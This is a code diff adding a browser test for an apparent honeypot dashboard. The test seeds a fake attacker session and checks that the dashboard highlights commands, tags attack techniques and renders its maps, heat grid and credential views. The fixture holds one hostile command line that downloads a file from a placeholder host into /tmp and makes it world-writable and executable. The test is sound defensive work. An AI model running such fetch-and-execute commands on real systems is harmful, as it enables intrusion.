@@ -480,3 +480,54 @@ test('the first load is at most 60 KB of compressed JavaScript', { skip }, async
   assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|<style|\son\w+=/);
   assert.ok(readdirSync(join(built, 'assets')).some((name) => name.endsWith('.js.br')));
 });
+
+test('the drawings show what was counted: map, week, folds, pairs, an address, techniques in a line', {
+  skip,
+}, async () => {
+  const line = 'cd /tmp; wget http://192.0.2.1/x && chmod 777 x';
+  dashboard.append(
+    sessionEvents(
+      Date.now() - 60_000,
+      [
+        { eventid: 'cowrie.session.connect' },
+        { eventid: 'cowrie.login.success', username: 'root', password: 'marked' },
+        { eventid: 'cowrie.command.input', input: line },
+        { eventid: 'cowrie.session.closed', duration_ms: 1000, duration: 1 },
+      ],
+      '203.0.113.201',
+    ),
+  );
+  dashboard.read();
+  const { items } = await dashboard.json<{ items: { id: number }[] }>('/sessions?address=203.0.113.201');
+  const { page, trouble } = await watched();
+  await open(page, `/sessions/${items[0]!.id}`);
+  await page.locator('.transcript mark').first().waitFor();
+  assert.deepEqual(await page.locator('.transcript mark').allInnerTexts(), ['wget http://192.0.2.1/x', 'chmod 777 x']);
+  assert.deepEqual((await page.locator('.techniques .technique-id').allInnerTexts()).sort(), ['T1105', 'T1222.002']);
+  await open(page, '/');
+  await page.locator('.world .disc').first().waitFor();
+  assert.match((await page.locator('.world .disc title').first().textContent()) ?? '', /^Japan: \d+ sessions$/);
+  await open(page, '/explore?range=day');
+  await page.locator('.heat td').first().waitFor();
+  const cells = await page.locator('.heat td .sr').allTextContents();
+  const { sessions } = await dashboard.json<{ sessions: number }>('/totals');
+  assert.equal(cells.length, 168);
+  assert.equal(
+    cells.reduce((sum, text) => sum + Number(text), 0),
+    sessions,
+  );
+  await open(page, '/credentials?range=all');
+  await page.locator('.matrix td a').first().waitFor();
+  await open(page, '/addresses/203.0.113.201');
+  await page.locator('.order li').first().waitFor();
+  assert.match(await page.locator('.order li').first().innerText(), /root\s*\/\s*marked/);
+  await open(page, '/sessions?view=folded');
+  await page.locator('.fold-count').first().click();
+  await page.waitForURL(/behaviour=/);
+  await page
+    .getByText(/alike sessions/)
+    .first()
+    .waitFor();
+  assert.deepEqual(trouble, []);
+  await page.context().close();
+});
